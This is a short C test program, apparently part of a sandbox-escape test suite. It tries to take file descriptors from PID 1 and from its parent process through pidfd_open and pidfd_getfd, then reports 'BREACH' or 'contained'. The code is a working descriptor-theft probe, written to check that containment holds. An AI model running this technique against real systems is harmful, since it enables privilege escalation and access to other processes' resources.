// attack: takes descriptors out of the first process and the parent by pidfd_getfd
// outcome: ok
// violation: pidfd_getfd
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
    const int targets[] = {1, getppid()};
    for (int i = 0; i < 2; ++i) {
        const int target = syscall(SYS_pidfd_open, targets[i], 0);
        for (int number = 0; number < 128; ++number) {
            const int taken = syscall(438, target, number, 0);
            if (taken >= 0) dprintf(1, "BREACH took descriptor %d of %d\n", number, targets[i]);
        }
    }
    dprintf(1, "contained\n");
    return 0;
}
